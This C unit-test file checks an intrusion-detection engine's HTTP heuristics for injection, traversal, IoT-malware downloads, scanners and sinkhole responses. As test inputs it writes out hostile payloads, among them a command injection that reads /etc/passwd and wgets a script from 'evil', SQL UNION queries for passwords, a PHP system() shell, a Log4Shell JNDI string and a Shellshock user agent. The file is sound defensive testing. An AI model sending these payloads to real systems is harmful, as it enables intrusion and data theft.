/* Units of the heuristics on HTTP. Expected values: detection.md 3.3 H4-H20, 3.4, 7, 8.1-8.6, 9.1 items 14 and 15. */
#include <config.h>

#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "check.h"
#include "detect/agents.h"
#include "detect/literals.h"
#include "detect/pattern.h"
#include "detect/request_patterns.h"
#include "detection.h"

/* "TYPE trail [info]" of what was told by the heuristics wanted, joined by "; ". */
static struct text told_of(const char *rule)
{
	static char out[32 << 10];
	size_t n = 0;
	out[0] = '\0';
	for (size_t i = 0; i < told.n && i < TOLD; i++) {
		const struct event *e = &told.events[i];
		if (strcmp(e->hit.rule, rule) != 0)
			continue;
		n += (size_t)snprintf(out + n, sizeof(out) - n, "%s%s %.*s [%.*s]", n ? "; " : "",
		    event_type_name(e->hit.type), (int)e->hit.trail.n, e->hit.trail.s,
		    (int)e->hit.info.n, e->hit.info.s);
	}
	return (struct text) { out, n };
}

/* body: behind the head. */
static void request(struct judge *j, const char *src, const char *dst, const char *message)
{
	struct http_request r;
	struct observation o = observation(OBSERVED_HTTP_REQUEST, src, dst, 1);
	struct text t = text_of(message);
	t.s = edge_copy(t.s, t.n);
	OK(http_parse_request(t, &r), "a request");
	o.request = &r;
	take(j, &o);
}

static void response(struct judge *j, const char *src, const char *type, struct text t)
{
	struct http_response r;
	struct observation o = observation(OBSERVED_HTTP_RESPONSE, src, "10.0.0.1", 1);
	t.s = edge_copy(t.s, t.n);
	OK(http_parse_response(t, &r), "a response");
	r.type = type;
	o.response = &r;
	take(j, &o);
}

struct row {
	const char *name, *request, *want;
};

static void run(const char *rule, const struct row *rows, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct judge *j = start();
		request(j, "10.0.0.1", "9.9.9.9", rows[i].request);
		IS_TEXT(told_of(rule), text_of(rows[i].want), "%s: %s", rule, rows[i].name);
		judge_free(j);
	}
}

#define RUN(rule, rows) run(rule, rows, sizeof(rows) / sizeof((rows)[0]))
#define TO_X " HTTP/1.1\r\nHost: x.org\r\n\r\n"

/* The regexes alone, as 8.1 tells what they find. */
static void patterns(void)
{
	static const struct {
		const char *text, *want;
	} rows[] = {
		{ "/items.php?id=1 UNION ALL SELECT username,password FROM users", "sql" },
		{ "/download?file=../../../../etc/passwd", "directory traversal" },
		{ "/search?q=<script>alert(1)</script>", "xss" },
		{ "/cgi?cmd=;cat /etc/passwd;wget http://evil/x.sh", "remote code" },
		{ "/x?tpl=${7*7}", "ssti" },
		{ "/x?a=<?php system($_GET[0]); ?>", "php" },
		{ "/.htaccess", "config file" },
		{ "/wp-config.php", "config file" },
		{ "/x?email=a@b.com b@c.com c@d.com d@e.com", "data leakage" },
		{ "/x?email=a@b.com b@c.com c@d.com", "" },
		{ "/x?imei=123456789012345", "data leakage" },
		{ "/x?imei=12345678901234", "" },
		{ "/x?mac=00:11:22:33:44:55", "data leakage" },
		{ "/x?dns1=8.8.8.8", "dns changer" },
		{ "/x?xdns1=8.8.8.8", "" },
		{ "/x?DSEN=1", "dns changer" },
		{ "/acunetix_wvs_security_test", "web scan" },
		{ "/x?q=%7B%7B7*7%7D%7D", "" },
		{ "/x?a=/text()='", "xml" },
		{ "/x?a=(|(uid=*", "ldap" },
		{ "/x?a=[<!ENTITY", "xxe" },
		{ "a' or 1=1", "sql" },
		{ "a' orr 1=1", "" },
		{ "salt and pepper", "" },
		{ "android 10=10", "" },
		{ "select * from a where b", "sql" },
		{ "select a from b", "sql" },
		{ "selected a from b", "" },
		{ "case when 2 then 3", "sql" },
		{ "1;waitfor delay '0:0:5'", "sql" },
		{ "1 or/*x*/1", "sql" },
		{ "into outfile 'x'", "sql" },
		{ "drop table a", "sql" },
		{ "pg_sleep(5)", "sql" },
		{ "order by 10", "sql" },
		{ "order by name", "" },
		{ "onerror=x(1", "xss" },
		{ "prompt(1)", "xss" },
		{ "${jndi:ldap://x}", "ssti" },
		{ "jndi:ldap://x", "remote code" },
		{ "x > /dev/null", "remote code" },
		{ "chmod 777 x", "remote code" },
		{ "ping -c 1 x", "remote code" },
		{ "c:\\windows\\system32\\x", "directory traversal" },
		{ "..\\..\\..\\x", "directory traversal" },
		{ "../../x", "" },
		{ "../../../x", "directory traversal" },
		{ "owasp%20zap", "web scan" },
	};
	struct request_patterns *p = request_patterns_new();
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct text t = text_of(rows[i].text);
		t.s = edge_copy(t.s, t.n);
		const char *found = request_patterns_find(p, t, 0);
		struct text what = text_of(found ? found : "");
		OK(*rows[i].want ? text_find(what, text_of(rows[i].want)) != TEXT_NONE
				 : what.n == 0,
		    "%s: %s", rows[i].text, found ? found : "nothing");
	}
	IS_NUMBER(request_patterns_given_up(p), 0, "no search was given up");
	request_patterns_free(p);
}

/* Each alternative of a pattern is let through by the literals: what the pattern finds, it finds behind them. */
static void literal_rows(void)
{
	static const struct literal list[] = { { "abc", 1, false }, { "or", 2, true },
		{ "a<", 4, false } };
	static const struct {
		const char *text;
		uint32_t skip, want;
	} rows[] = {
		{ "", 0, 0 },
		{ "a", 0, 0 },
		{ "abc", 0, 1 },
		{ "xABCx", 0, 1 },
		{ "ab c", 0, 0 },
		{ "abc", 1, 0 },
		{ "or", 0, 2 },
		{ "x or", 0, 2 },
		{ "or)", 0, 2 },
		{ "xor", 0, 0 },
		{ "order", 0, 0 },
		{ "or_", 0, 0 },
		{ "A<abc or", 0, 7 },
		{ "A<abc or", 2, 5 },
	};
	struct literals *l = literals_new(list, 3);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct text t = text_of(rows[i].text);
		t.s = edge_copy(t.s, t.n);
		IS_NUMBER(literals_find(l, t, rows[i].skip), rows[i].want, "literals of \"%s\"",
		    rows[i].text);
	}
	literals_free(l);
}

static void bounded_patterns(void)
{
	struct fault f;
	struct span where;
	OK(!pattern_new(TEXT("a("), 0, &f) && f.text[0], "what is no pattern: %s", f.text);
	struct pattern *p = pattern_new(TEXT("(a+)+b|^c"), PATTERN_NOCASE, &f);
	char many[4096];
	memset(many, 'a', sizeof(many));
	OK(!pattern_find(p, (struct text) { many, sizeof(many) }, &where), "no match in many a's");
	IS_NUMBER(pattern_given_up(p), 1, "the search was given up");
	OK(pattern_find(p, TEXT("xxAAB"), &where) && where.at == 2 && where.n == 3, "a match");
	OK(!pattern_find(p, TEXT(""), &where) && !pattern_find(p, TEXT("x\nc"), &where), "none");
	pattern_free(p);
	p = pattern_new(TEXT("^c.d"), PATTERN_LINES | PATTERN_DOT_LINE, &f);
	OK(pattern_find(p, TEXT("x\nc\nd"), &where) && where.at == 2, "lines");
	pattern_free(p);
}

static void suspicious_requests(void)
{
	static const struct row rows[] = {
		{ "a path",
		    "GET /items.php?id=1%20union%20all%20select%20username,password%20from%20users" TO_X,
		    "URL x.org(/items.php?id=1%20union%20all%20select%20username,password%20from%20users) "
		    "[potential sql injection (suspicious)]" },
		{ "capitals and parentheses", "GET /s?q=<Script>Alert(1)" TO_X,
		    "URL x.org(/s?q=<script>alert%281%29) [potential xss injection (suspicious)]" },
		{ "double slashes", "GET /x?f=/etc//passwd" TO_X,
		    "URL x.org(/x?f=/etc/passwd) [potential directory traversal (suspicious)]" },
		{ "a body",
		    "POST /submit HTTP/1.1\r\nHost: x.org\r\n\r\nq=1 UNION ALL SELECT pwd FROM users\r\n",
		    "HTTP x.org(/submit \\(POST q=1%20UNION%20ALL%20SELECT%20pwd%20FROM%20users%0D%0A\\)) "
		    "[potential sql injection (suspicious)]" },
		{ "a path and a body", "POST /?f=../../../x HTTP/1.1\r\nHost: x.org\r\n\r\na=<?php",
		    "URL x.org(/?f=../../../x) [potential directory traversal (suspicious)]; "
		    "HTTP x.org(/?f=../../../x \\(POST a=<?php\\)) [potential php injection (suspicious)]" },
		{ "what the reference skips: ads", "GET /uploads/?f=/etc/passwd" TO_X,
		    "URL x.org(/uploads/?f=/etc/passwd) [potential directory traversal (suspicious)]" },
		{ "what the reference skips: a bare path", "GET /wp-config.php" TO_X,
		    "URL x.org(/wp-config.php) [config file access (suspicious)]" },
		{ "encoded twice", "GET /?f=%252fetc%252fpasswd" TO_X,
		    "URL x.org(/?f=%252fetc%252fpasswd) [potential directory traversal (suspicious)]" },
		{ "encoded five times", "GET /?f=%252525252fetc%252525252fpasswd" TO_X, "" },
		{ "plus signs", "GET /?q=1+union+select+a+from+b" TO_X,
		    "URL x.org(/?q=1+union+select+a+from+b) [potential sql injection (suspicious)]" },
		{ "a header field",
		    "GET / HTTP/1.1\r\nHost: x.org\r\nX-Api: ${jndi:ldap://a/b}\r\n\r\n",
		    "HTTP x.org(/ \\(X-Api: ${jndi:ldap://a/b}\\)) [potential ssti injection (suspicious)]" },
		{ "addresses in a header field",
		    "GET / HTTP/1.1\r\nHost: x.org\r\nFrom: a@b.com b@c.com c@d.com d@e.com\r\n\r\n",
		    "" },
		{ "nothing", "GET /index.html?a=b&c=d" TO_X, "" },
		{ "an absolute target", "GET http://y.org/?f=../../../x" TO_X,
		    "URL y.org(/?f=../../../x) [potential directory traversal (suspicious)]" },
		{ "an absolute target that runs commands",
		    "GET http://y.org/?f=cmd.exe HTTP/1.1\r\nHost: x.org:80\r\n\r\n",
		    "URL x.org(http:/y.org/?f=cmd.exe) [potential remote code execution (suspicious)]" },
		{ "the name of an absolute target", "GET http://wp-config.php/" TO_X, "" },
		{ "CONNECT", "CONNECT y.org:443 HTTP/1.1\r\nHost: y.org:443\r\n\r\n", "" },
	};
	RUN("suspicious_request", rows);
	struct judge *j = start();
	request(j, "10.0.0.1", "10.0.0.2", "GET /?imei=123456789012345&dns1=x" TO_X);
	IS_TEXT(told_of("suspicious_request"),
	    TEXT("URL x.org(/?imei=123456789012345&dns1=x) [potential dns changer (suspicious)]"),
	    "to a local address a leak is none");
	request(
	    j, "10.0.0.1", "9.9.9.9", "GET /wp-config.php HTTP/1.1\r\nHost: a.white.net\r\n\r\n");
	IS_TEXT(told.events[told.n - 1].hit.suppressed, TEXT(""),
	    "a whitelisted host does not mark what is sent with its name");
	request(j, "10.0.0.1", "9.9.9.9",
	    "GET /wp-config.php HTTP/1.1\r\nHost: b.org\r\nX-Forwarded-For: 1.2.3.4\r\n\r\n");
	IS_TEXT(told.events[told.n - 1].forwarded, TEXT("1.2.3.4"), "forwarded for");
	judge_free(j);
	j = start();
	request(j, "10.0.0.1", "9.9.9.9",
	    "GET /d?f=../../../../etc/passwd HTTP/1.1\r\nHost: evil.com\r\nUser-Agent: sqlmap/1.0\r\n\r\n");
	IS_TEXT(told_of("trail"), TEXT("DNS evil.com [some (malware)]"), "a request's name,");
	IS_TEXT(told_of("suspicious_request"),
	    TEXT("URL evil.com(/d?f=../../../../etc/passwd) "
		 "[potential directory traversal (suspicious)]"),
	    "its path");
	OK(told.n == 3 && told_of("user_agent").n > 0, "and its user agent are three findings");
	judge_free(j);
}

/* 1399 bytes of noise leave room for one byte of what follows. */
static void bodies(void)
{
	static const char head[] = "POST / HTTP/1.1\r\nHost: x.org\r\n\r\n";
	char message[4096];
	for (int binary = 0; binary < 2; binary++) {
		struct judge *j = start();
		memset(message, 'x', sizeof(message) - 1);
		memcpy(message, head, sizeof(head) - 1);
		message[sizeof(head) - 1] = binary ? '\1' : 'x';
		memcpy(message + sizeof(head) - 1 + 1400, " <?php", 6);
		message[sizeof(message) - 1] = '\0';
		request(j, "10.0.0.1", "9.9.9.9", message);
		IS_NUMBER(
		    told.n, !binary, "1400 bytes of a body that is %s text", binary ? "no" : "all");
		if (!binary)
			IS_NUMBER(told.events[0].hit.trail.n, 5 + 2 + 8 + 2000 + 2 + 3,
			    "2000 bytes of it are shown, a space as three");
		judge_free(j);
	}
}

static void iot_downloads(void)
{
	static const struct row rows[] = {
#define FROM_IP " HTTP/1.1\r\nHost: 1.2.3.4\r\n\r\n"
#define IOT(path) "HTTP (1.2.3.4)" path " [potential iot-malware download (suspicious)]"
		{ "arm7", "GET /bins/arm7" FROM_IP, IOT("/bins/arm7") },
		{ "x86", "GET /x86" FROM_IP, IOT("/x86") },
		{ "wtf", "GET /wtf" FROM_IP, IOT("/wtf") },
		{ "mirai", "GET /Mirai.X86" FROM_IP, IOT("/mirai.x86") },
		{ "a script", "GET /a.sh" FROM_IP, IOT("/a.sh") },
		{ "x86_64, beyond the reference", "GET /x86_64" FROM_IP, IOT("/x86_64") },
		{ "a page", "GET /index.html" FROM_IP, "" },
		{ "farm", "GET /farm" FROM_IP, "" },
		{ "a query", "GET /a?x=arm" FROM_IP, "" },
		{ "a name", "GET /x86" TO_X, "" },
		{ "a port, beyond the reference", "GET /x86 HTTP/1.1\r\nHost: 1.2.3.4:8080\r\n\r\n",
		    "HTTP (1.2.3.4:8080)/x86 [potential iot-malware download (suspicious)]" },
		{ "a name that begins with digits", "GET /x86 HTTP/1.1\r\nHost: 1.2.3.4a\r\n\r\n",
		    "" },
		{ "no host", "GET /x86 HTTP/1.0\r\n\r\n", "" },
	};
	RUN("iot_download", rows);
	static const struct {
		const char *src, *dst;
		unsigned n;
	} near[] = { { "10.0.0.1", "10.0.9.9", 0 }, { "10.0.0.1", "10.1.0.1", 1 },
		{ "9.9.0.1", "9.9.9.9", 1 } };
	for (size_t i = 0; i < 3; i++) {
		struct judge *j = start();
		request(j, near[i].src, near[i].dst, "GET /x86" FROM_IP);
		IS_NUMBER(told.n, near[i].n, "%s from %s", near[i].dst, near[i].src);
		judge_free(j);
	}
}

static void proxy_probes(void)
{
	static const struct row rows[] = {
#define PROBE(trail) "HTTP " trail " [potential proxy probe (suspicious)]"
		{ "no path", "GET http://proxycheck.example/" TO_X,
		    PROBE("http://proxycheck.example/") },
		{ "a path", "GET http://a.example/Echo.php" TO_X,
		    PROBE("http://a.example/(echo.php)") },
		{ "a port and a dot", "GET http://a.example.:8080/probe" TO_X,
		    PROBE("http://a.example/(probe)") },
		{ "a URL in it", "GET http://a.example/proxy?http://b.example:81/x" TO_X,
		    PROBE("http://a.example/(proxy?http://b.example/x)") },
		{ "no word", "GET http://a.example/x" TO_X, "" },
		{ "a path alone", "GET /proxy" TO_X, "" },
		{ "no slash", "GET http://check.example" TO_X, PROBE("http://check.example") },
	};
	RUN("proxy_probe", rows);
	for (int local = 0; local < 2; local++) {
		struct judge *j = start();
		struct http_request r;
		struct observation o = observation(
		    OBSERVED_HTTP_REQUEST, local ? "10.0.0.1" : "5.5.5.5", "9.9.9.9", 1);
		OK(http_parse_request(TEXT("GET http://a.example/proxy" TO_X), &r), "a request");
		o.dport = 3128;
		o.request = &r;
		take(j, &o);
		IS_NUMBER(told.n, !local, "on another port from a%s address",
		    local ? " local" : "n outer");
		judge_free(j);
	}
}

static void scanner_files(void)
{
	static const struct row rows[] = {
		{ "a page", "GET /a/DefaultWebPage.cgi" TO_X,
		    "URL x.org(/a/defaultwebpage.cgi) [non-existent page (suspicious)]" },
		{ "a file", "GET /Test-for-some-inexistent-file?x" TO_X,
		    "URL x.org(/test-for-some-inexistent-file?x) [potential web scan (suspicious)]" },
		{ "in the query", "GET /a?long_inexistent_path" TO_X, "" },
		{ "a directory", "GET /long_inexistent_path/a" TO_X, "" },
		{ "behind a semicolon", "GET /a;long_inexistent_path" TO_X, "" },
	};
	RUN("scanner_file", rows);
}

static void missing_hosts(void)
{
	static const struct row rows[] = {
		{ "none", "GET /A?b HTTP/1.0\r\nAccept: */*\r\n\r\n",
		    "HTTP 9.9.9.9/a?b [missing host header (suspicious)]" },
		{ "one", "GET /a" TO_X, "" },
		{ "an empty one", "GET /a HTTP/1.1\r\nHost:\r\n\r\n", "" },
		{ "another spelling", "GET /a HTTP/1.1\r\nhost: x.org\r\n\r\n",
		    "HTTP 9.9.9.9/a [missing host header (suspicious)]" },
		{ "a head that does not end", "GET /a HTTP/1.1\r\nAccept: */*\r\n", "" },
		{ "HTTP/2", "GET /a HTTP/2\r\nAccept: */*\r\n\r\n", "" },
		{ "doubled slashes stay", "GET http://x.org/ HTTP/1.1\r\n\r\n",
		    "HTTP 9.9.9.9http://x.org/ [missing host header (suspicious)]" },
	};
	struct heuristic_choice choice = { 0 };
	struct judge *j = start();
	request(j, "10.0.0.1", "9.9.9.9", rows[0].request);
	IS_NUMBER(told.n, 0, "off by default");
	judge_free(j);
	OK(heuristic_choose(&choice, TEXT("missing-host"), true), "chosen");
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		j = start_with(&choice, NULL);
		request(j, "10.0.0.1", "9.9.9.9", rows[i].request);
		IS_TEXT(told_of("missing_host"), text_of(rows[i].want), "missing_host: %s",
		    rows[i].name);
		judge_free(j);
	}
}

static void user_agents(void)
{
	static const struct {
		const char *agent, *want;
	} rows[] = {
		{ "masscan/1.0", "masscan(/1.0)" },
		{ "sqlmap/1.0", "sqlmap(/1.0)" },
		{ "sqlmap", "sqlmap" },
		{ "x sqlmap", "(x )sqlmap" },
		{ "x (sqlmap) y", "sqlmap (x \\(sqlmap\\) y)" },
		{ "() { :;}; /bin/bash", "\\(\\) { :;}(; /bin/bash)" },
		{ "%73qlmap", "sqlmap" },
		{ "a\\ sqlmap b\\\\", "sqlmap (a\\ sqlmap b)" },
		{ "sqlmap Sophos", "sqlmap( Sophos)" },
		{ "-", "-" },
		{ "ab", "ab" },
		{ "chrome", "chrome" },
		{ "wget", "wget" },
		{ "Wget/1.21.3", "" },
		{ "curl/8.0", "" },
		{ "python-requests/2.31.0", "" },
		{ "Go-http-client/1.1", "" },
		{ "okhttp/4.9.0", "" },
		{ "Debian APT-HTTP/1.3 (2.6.1)", "" },
		{ "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50", "" },
		{ "Microsoft-Delivery-Optimization/10.0", "" },
		{ "Microsoft BITS/7.8", "" },
		{ "Microsoft NCSI", "" },
		{ "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
		  "Chrome/120.0.0.0 Safari/537.36",
		    "" },
		{ "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", "" },
		{ "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", "" },
		{ "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 "
		  "(KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
		    "" },
	};
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		char message[512];
		struct judge *j = start();
		snprintf(message, sizeof(message),
		    "GET / HTTP/1.1\r\nHost: x.org\r\nUser-Agent: %s\r\n\r\n", rows[i].agent);
		for (int k = 0; k < 2; k++)
			request(j, "10.0.0.1", "9.9.9.9", message);
		size_t n = 0, last = 0;
		for (size_t k = 0; k < told.n; k++)
			if (told.events[k].hit.type == EVENT_UA) {
				last = k;
				n++;
			}
		IS_NUMBER(n, rows[i].want[0] ? 2 : 0, "each time, by the list and from memory: %s",
		    rows[i].agent);
		IS_TEXT(n ? told.events[last].hit.trail : TEXT(""), text_of(rows[i].want),
		    "trail of %s", rows[i].agent);
		judge_free(j);
	}
}

static void agent_lists(void)
{
	char path[] = "/tmp/agents-XXXXXX";
	int fd = mkstemp(path);
	FILE *f = fdopen(fd, "w");
	struct fault why;
	fputs("# a comment\n\n  foo\\d  \r\nMozilla (compatible; x)\nbad(\nAB|ABC\nabcd\n", f);
	for (int i = 0; i < 2000; i++)
		fprintf(f, "filler number %d\n", i);
	fputs("last one\nsoph\n", f);
	fclose(f);
	struct agents *a = agents_new();
	OK(agents_add_file(a, path, &why), "a list");
	OK(agents_pieces(a) > 5, "is kept in pieces");
	static const struct {
		const char *agent, *want;
	} rows[] = {
		{ "FOO1", "FOO1" },
		{ "Sophos/1.0", "" },
		{ "soph", "soph" },
		{ "foo", "" },
		{ "mozilla (compatible; X)", "mozilla \\(compatible; X\\)" },
		{ "mozilla xcompatible; X)", "" },
		{ "bad(", "bad\\(" },
		{ "abcd", "ab(cd)" },
		{ "sqlmap", "" },
		{ "last one, filler number 7", "last one(, filler number 7)" },
		{ "filler number 12", "filler number 1(2)" },
	};
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		char message[200];
		struct judge *j = start_with(&(struct heuristic_choice) { 0 }, a);
		snprintf(message, sizeof(message),
		    "GET / HTTP/1.1\r\nHost: x.org\r\nUser-Agent: %s\r\n\r\n", rows[i].agent);
		request(j, "10.0.0.1", "9.9.9.9", message);
		IS_TEXT(told.n ? told.events[0].hit.trail : TEXT(""), text_of(rows[i].want),
		    "by the list: %s", rows[i].agent);
		judge_free(j);
	}
	agents_free(a);
	unlink(path);
	a = agents_new();
	OK(!agents_add_file(a, path, &why), "a list that is not there: %s", why.text);
	agents_free(a);
}

static void responses(void)
{
	static const char *const mz = "exe";
	static const struct {
		const char *rule, *name, *type, *message, *want;
	} rows[] = {
#define SINK(trail) "HTTP " trail " [sinkhole response (malware)]"
		{ "sinkhole_response", "a server", "",
		    "HTTP/1.1 200 OK\r\nserver: Malware-Sinkhole\r\n\r\n",
		    SINK("server: Malware-Sinkhole") },
		{ "sinkhole_response", "a header", "",
		    "HTTP/1.1 200 OK\r\nA: b\r\nX-Sinkhole: a\r\n\r\n", SINK("X-Sinkhole:") },
		{ "sinkhole_response", "another", "", "HTTP/1.1 200 OK\r\nX-Zinkhole: a\r\n\r\n",
		    SINK("X-Zinkhole:") },
		{ "sinkhole_response", "a cookie", "",
		    "HTTP/1.1 200 OK\r\nSet-Cookie: snkz=1\r\n\r\n", SINK("Set-Cookie: snkz=") },
		{ "sinkhole_response", "a text", "", "HTTP/1.1 200 OK\r\n\r\n<p>Bots party hard!",
		    SINK("Bots party hard") },
		{ "sinkhole_response", "a title", "",
		    "HTTP/1.1 200 OK\r\n\r\n<title>A Sinkhole Project</title>",
		    SINK("Sinkhole Project</title>") },
		{ "sinkhole_response", "a redirection", "",
		    "HTTP/1.1 302 F\r\nLocation: http://a.sinkdns.org:80/\r\n\r\n",
		    SINK("Location: http://a.sinkdns.org:80") },
		{ "sinkhole_response", "a kitchen", "",
		    "HTTP/1.1 200 OK\r\n\r\na new sink and a sinkhole", "" },
#define SEIZED(trail) "HTTP " trail " [seized domain (suspicious)]"
		{ "seized_domain", "a title", "",
		    "HTTP/1.1 200 OK\r\n\r\n<html><title>This domain name has been seized by X</title>",
		    SEIZED("This domain name has been seized by X") },
		{ "seized_domain", "another", "",
		    "HTTP/1.1 200 OK\r\n\r\n<title>Domain Seizure</title>",
		    SEIZED("Domain Seizure") },
		{ "seized_domain", "a title that does not end", "",
		    "HTTP/1.1 200 OK\r\n\r\n<title>Domain Seized", "" },
		{ "seized_domain", "another title", "",
		    "HTTP/1.1 200 OK\r\n\r\n<title>News</title>Domain Seized", "" },
#define TYPE(trail) "HTTP " trail " [content type (suspicious)]"
		{ "content_type", "a script", "",
		    "HTTP/1.1 200 OK\r\nContent-Type: Application/X-SH \r\n\r\n",
		    TYPE("application/x-sh") },
		{ "content_type", "with a parameter", "",
		    "HTTP/1.1 200 OK\r\nContent-Type: application/hta; charset=x\r\n\r\n",
		    TYPE("application/hta") },
		{ "content_type", "a page", "",
		    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n", "" },
		{ "content_type", "a longer one", "",
		    "HTTP/1.1 200 OK\r\nContent-Type: application/x-shx\r\n\r\n", "" },
#define DISGUISED(trail) "HTTP " trail " [disguised program (suspicious)]"
		{ "disguised_program", "ELF as an image", "elf",
		    "HTTP/1.1 200 OK\r\nContent-Type: Image/PNG; a=b\r\n\r\n",
		    DISGUISED("image/png (elf)") },
		{ "disguised_program", "ELF as text", "elf",
		    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n",
		    DISGUISED("text/html (elf)") },
		{ "disguised_program", "a script as an image", "script",
		    "HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\n\r\n",
		    DISGUISED("image/gif (script)") },
		{ "disguised_program", "a script as text", "script",
		    "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n", "" },
		{ "disguised_program", "ELF as what it may be", "elf",
		    "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n", "" },
		{ "disguised_program", "no type", "elf", "HTTP/1.1 200 OK\r\n\r\n", "" },
		{ "disguised_program", "an image", "png",
		    "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n", "" },
		{ "disguised_program", "a text of two letters", "exe",
		    "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nMZ", "" },
	};
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct judge *j = start();
		response(j, "9.9.9.9", rows[i].type, text_of(rows[i].message));
		IS_TEXT(told_of(rows[i].rule), text_of(rows[i].want), "%s: %s", rows[i].rule,
		    rows[i].name);
		if (told.n)
			OK(told.events[0].src.bytes[0] == 9, "from the server");
		judge_free(j);
	}
	for (int good = 0; good < 2; good++) {
		char message[512] = "HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\n\r\n";
		size_t head = strlen(message);
		memcpy(message + head, "MZ", 2);
		message[head + 0x3c] = (char)0x80;
		memcpy(message + head + 0x80, good ? "PE\0\0" : "PX\0\0", 4);
		struct judge *j = start();
		response(j, "9.9.9.9", mz, (struct text) { message, sizeof(message) });
		IS_NUMBER(told.n, good, "a program of Windows has a %s header", good ? "PE" : "?");
		judge_free(j);
	}
}

static void choices(void)
{
	static const struct heuristic_choice none = { 0 };
	struct heuristic_choice c = none;
	uint64_t by_default = heuristics_on(&none);
	OK(heuristics_count() > 10 && by_default, "there are heuristics");
	OK(!heuristic_choose(&c, TEXT("port_scannin"), true) &&
		!heuristic_choose(&c, TEXT(""), true) &&
		!heuristic_choose(&c, TEXT("port_scanningx"), true),
	    "names are whole");
	OK(heuristics_on(&c) == by_default, "which changes nothing");
	OK(heuristic_choose(&c, TEXT("ALL"), false) && heuristics_on(&c) == 0, "all can be off");
	OK(heuristic_choose(&c, TEXT("Port-Scanning"), true), "one of them on again");
	uint64_t on = heuristics_on(&c);
	OK(on && (on & (on - 1)) == 0, "it alone");
	struct judge *j = start_with(&c, NULL);
	request(j, "10.0.0.1", "9.9.9.9", "GET /wp-config.php" TO_X);
	IS_NUMBER(told.n, 0, "what is off finds nothing");
	judge_free(j);
	OK(heuristic_choose(&c, TEXT("all"), true), "all on");
	IS_NUMBER(heuristics_on(&c), (UINT64_C(1) << heuristics_count()) - 1, "are all");
}

int main(void)
{
	patterns();
	literal_rows();
	bounded_patterns();
	suspicious_requests();
	bodies();
	iot_downloads();
	proxy_probes();
	scanner_files();
	missing_hosts();
	user_agents();
	agent_lists();
	responses();
	choices();
	return detection_done();
}
